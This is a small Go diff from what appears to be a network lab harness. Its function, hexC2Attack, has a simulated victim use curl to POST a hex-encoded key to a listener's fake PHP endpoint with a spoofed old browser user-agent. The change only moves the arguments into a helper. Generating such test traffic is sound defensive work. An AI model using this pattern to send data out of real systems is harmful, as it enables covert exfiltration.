@@ -456,8 +456,8 @@ func hexC2Attack(ctx context.Context, l *lab, att *host) (string, string, error)
 			key[j] = byte(rng.Uint32())
 		}
 		url := fmt.Sprintf("http://%s/cgi-bin/76N1Lm.php?n=%x", listen, rng.Uint64())
-		out, err := victim.ns.command(ctx, curl, "-s", "-o", "/dev/null", "-m", "5", "-A", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)",
-			"-H", "Expect: 100-continue", "--expect100-timeout", "0.2", "--data", "o="+hex.EncodeToString(key), url).CombinedOutput()
+		out, err := victim.ns.command(ctx, curl, curlArgs("-s", "-o", "/dev/null", "-m", "5", "-A", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)",
+			"-H", "Expect: 100-continue", "--expect100-timeout", "0.2", "--data", "o="+hex.EncodeToString(key), url)...).CombinedOutput()
 		if ctx.Err() != nil {
 			break // the slot ended
 		}
